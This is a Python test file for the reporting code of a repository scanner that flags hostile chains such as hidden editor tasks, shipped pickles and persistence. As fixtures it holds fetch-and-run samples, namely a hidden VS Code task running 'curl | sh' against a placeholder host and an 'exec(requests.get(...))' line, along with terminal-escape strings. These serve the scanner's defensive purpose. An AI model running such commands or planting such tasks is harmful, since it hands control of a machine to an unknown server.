"""What is told: the headline, chains that a person can act on, and nothing of a stranger's that acts on the reader."""

import json
import re

import pytest

from inspection.rules.samples import HOSTILE, QUIET, task
from sekisho.inspection.report import action
from sekisho.inspection.report.document import as_json
from sekisho.inspection.report.sarif import as_sarif
from sekisho.inspection.report.words import tell
from sekisho.inspection.rules.chain import STOP, Verdict
from support.inspection import Files, inspected

TASK: Files = {".vscode/tasks.json": task("curl -s https://a.invalid | sh", QUIET)}
CLEAN: Files = {
    "app.py": "print('hello')\n",
    "package.json": '{"scripts": {"test": "jest"}, "dependencies": {"x": "1"}}',
}


def text(files: Files) -> str:
    return "\n".join(tell(inspected(files)))


def test_a_block_says_what_runs_when_and_what_to_do() -> None:
    told = text(TASK)
    assert told.startswith("BLOCK\n")
    assert "when the folder is opened in an editor" in told
    assert ".vscode/tasks.json:2  VS Code task [hidden from view]: curl -s https://a.invalid | sh" in told


@pytest.mark.parametrize("rule", HOSTILE)
def test_a_verdict_tells_somebody_who_cannot_program_what_to_do(rule: str) -> None:
    for sample in HOSTILE[rule].values():
        told = text(sample.files)
        head = told.partition("\nWhat will run")[0]
        assert "What to do now:\n  1. " in head
        assert re.search("If it was already opened, installed or run(, and nobody can explain it)?:\n  1. Take", head)
        assert "off the network" in head
        assert "seed phrase" in head
        assert "Found: " in head
        if told.startswith("BLOCK"):
            assert "Do not open, install or run this.\n" in head
            assert "do not push it to GitHub" in " ".join(head.split())
        for word in ("exec", "sink", "payload", "deserialis", "execut"):  # words of the trade
            assert word not in head


def test_no_chain_that_blocks_asks_for_less_than_to_stop() -> None:
    asked = {
        action(chain)
        for samples in HOSTILE.values()
        for sample in samples.values()
        for chain in inspected(sample.files).chains
        if chain.verdict == "block"
    }
    assert asked == {STOP}


def test_what_the_baseline_accepts_is_told() -> None:
    found = inspected(TASK)
    told = "\n".join(tell(found._replace(verdict=Verdict.NO_CHAIN_FOUND, chains=(), accepted=found.chains)))
    assert "accepted by the baseline: BLOCK  fetch_and_run at .vscode/tasks.json:2" in told
    assert "Found: Chains that the baseline accepts, and no other." in told


def test_the_steps_of_a_chain_stand_in_order() -> None:
    files = HOSTILE["fetch_and_run"]["in a script that a script runs"].files
    (chain,) = [each for each in inspected(files).chains if each.rule == "fetch_and_run"]
    assert [str(step.kind) for step in chain.steps] == ["trigger", "source", "sink"]
    assert [step.site.file for step in chain.steps] == ["package.json", "scripts/a.sh", "scripts/a.sh"]


def test_the_worst_comes_first() -> None:
    files = dict(TASK) | {
        f"m{n}.pkl": HOSTILE["shipped_object"]["a pickle lies there"].files["model.pkl"] for n in range(40)
    }
    found = inspected(files)
    assert found.chains[0].verdict == "block"
    assert text(files).startswith("BLOCK\n")


def test_many_of_one_kind_hide_none_of_another() -> None:
    """Our own caches of machine code once filled the report with 25 pickles, and 266 chains were only a number."""
    files = {f"m{n:02}.pkl": HOSTILE["shipped_object"]["a pickle lies there"].files["model.pkl"] for n in range(40)}
    told = text(files | HOSTILE["persistence"]["a shell profile"].files)
    assert told.count("shipped_object:") == 1
    assert told.count("  sink    m") == 5
    assert "  and 35 more like these, the next at m05.pkl" in told
    assert "persistence:" in told


def test_no_chain_found_is_said_with_its_coverage_and_never_called_safe() -> None:
    told = text(CLEAN)
    assert told.startswith("NO CHAIN FOUND\n")
    assert "Read 2 files" in told
    assert "were not read: x" in told
    for files in (CLEAN, TASK, {"a.rs": "fn main() {}"}):
        assert not re.search(r"\bsafe\b", text(files).lower())


def test_a_gap_that_a_trigger_reaches_is_review_and_one_that_none_reaches_is_told() -> None:
    reached = {"setup.py": "x = (\n"}
    apart = {"notes.py": "x = (\n", "app.py": "print(1)\n"}
    assert text(reached).startswith("REVIEW\n")
    assert text(apart).startswith("NO CHAIN FOUND\n")
    assert "notes.py:1  this does not parse" in text(apart)


def test_requests_to_look_away_are_shown_and_not_obeyed() -> None:
    files = {"app.py": "import requests\nexec(requests.get('https://a.invalid').text)  # nosec\n"}
    told = text(files)
    assert told.startswith("BLOCK\n")
    assert "not obeyed: 1, the first at app.py:2" in told


EVIL = "\x1b[2J\x07\u202e\u200b\u2028<script>"


@pytest.mark.parametrize("evil", [EVIL, "a" * 10_000, "\r\n::set-output name=x::y", "\ud7ff\U000e0041"])
def test_a_strangers_text_cannot_act_on_the_readers_terminal(evil: str) -> None:
    files = {f"d{evil[:40]}/app.py": f"import requests\nexec(requests.get('https://a.invalid').text)  # {evil}\n"}
    for line in tell(inspected(files)):
        assert len(line) < 4000
        assert all(each.isprintable() for each in line)


def test_the_json_document_has_the_fields_that_were_promised() -> None:
    document = json.loads(as_json(inspected(TASK)))
    assert document["verdict"] == "block"
    assert set(document) >= {"verdict", "triggers", "chains", "coverage", "gaps"}
    (trigger,) = document["triggers"]
    assert {"when", "file", "line", "runs"} <= set(trigger)
    assert trigger["when"] == "open"
    chain = document["chains"][0]
    assert {"rule", "verdict", "action", "attack", "steps", "explanation"} <= set(chain)
    assert all({"kind", "file", "line", "text"} <= set(step) for step in chain["steps"])
    assert json.loads(as_json(inspected(CLEAN)))["verdict"] == "no_chain_found"


def test_the_sarif_log_is_one_run_with_levels_places_and_flows() -> None:
    files = {f"d{EVIL}/a b.py": "import requests\nexec(requests.get('https://a.invalid').text)\n"}
    log = json.loads(as_sarif(inspected(files)))
    assert log["version"] == "2.1.0"
    (run,) = log["runs"]
    rules = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    (result,) = run["results"]
    assert rules[result["ruleIndex"]] == result["ruleId"] == "remote_code"
    assert result["level"] == "error"
    place = result["locations"][0]["physicalLocation"]
    assert place["region"]["startLine"] == 2
    assert re.fullmatch(r"[A-Za-z0-9%/._~-]+", place["artifactLocation"]["uri"])
    assert len(result["codeFlows"][0]["threadFlows"][0]["locations"]) == 2
